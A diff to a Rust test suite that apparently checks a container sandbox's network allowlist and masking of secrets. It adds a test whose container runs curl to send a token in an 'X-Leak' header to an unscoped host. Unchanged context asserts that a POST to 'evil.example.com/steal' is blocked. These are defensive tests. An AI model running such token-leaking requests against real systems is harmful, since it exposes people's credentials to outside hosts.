@@ -16,7 +16,7 @@ use std::{
 use origin::Origin;
 use rustix::process::Signal;
 
-use crate::setup::{BUSYBOX, DEBIAN, Run, Setup, cordon, eventually, on_every_engine};
+use crate::setup::{BUSYBOX, DEBIAN, Run, Setup, cordon, eventually, on_every_engine, read_all};
 
 /// Waits for a list of targets, tries each over TCP and UDP, and says what answers over TCP. Link-local
 /// addresses are tried on the container's own interface.
@@ -53,6 +53,9 @@ with concurrent.futures.ThreadPoolExecutor(64) as pool:
 print("done")
 "#;
 
+/// No credential of anybody's.
+const TOKEN: &str = "ghp_9z8Y7x6W5v4U3t2S1r0Q9p8O7n6M5l4K3j2I";
+
 /// The address that names have, which is the proxy's.
 const PROXY: &str = "$(sed -n 's/nameserver //p' /etc/resolv.conf)";
 
@@ -80,6 +83,30 @@ on_every_engine! {
         assert!(ended.stdout.contains("blocked_by_network_allowlist"), "{ended:?}");
         assert_eq!(outside.origin.connections(), 0);
         assert!(run.network_log().contains("BLOCKED POST https://evil.example.com/steal?x=1 -> 403"), "{}", run.network_log());
+    }
+
+    fn a_secret_reaches_its_host_and_no_argument_file_or_record_of_the_engine(setup) {
+        let outside = Outside::new(&["*.example.com"]);
+        let run = beside(setup).image(DEBIAN).origin(&outside.origin, &["api.example.com", "other.example.com"])
+            .flags(["--config", "sandbox.yaml"]).env("REAL_TOKEN", TOKEN)
+            .sh("curl -sS -H \"Authorization: Bearer $GH_TOKEN\" https://api.example.com/echo; curl -sS -H \"X-Leak: $GH_TOKEN\" https://other.example.com/; touch asked; sleep 2");
+        let config = "masked_secrets:\n  GH_TOKEN:\n    value: !env REAL_TOKEN\n    scopes: [api.example.com]\n    headers: [Authorization]\n";
+        fs::write(run.path("sandbox.yaml"), config).unwrap();
+        let running = run.start();
+        eventually("it has asked", Duration::from_secs(30), || run.path("asked").exists());
+        let names = setup.containers_of(running.pid());
+        assert_eq!(names.len(), 2);
+        let mut seen: String = names.iter().map(|name| setup.ask(&["container", "inspect", name])).collect();
+        for process in fs::read_dir("/proc").unwrap().flatten() {
+            seen += &String::from_utf8_lossy(&fs::read(process.path().join("cmdline")).unwrap_or_default());
+        }
+        let ended = running.end();
+        seen += &read_all(&run.path(""));
+        seen += &format!("{ended:?}");
+        assert_eq!(outside.origin.authorizations(), [format!("Bearer {TOKEN}")]);
+        assert!(!seen.contains(TOKEN));
+        let log = run.network_log();
+        assert!(log.contains("[masked: 1]") && log.contains("ALARM"), "{log}");
     }
 
     fn the_hosts_services_are_out_of_reach_on_every_address_of_every_bridge(setup) {
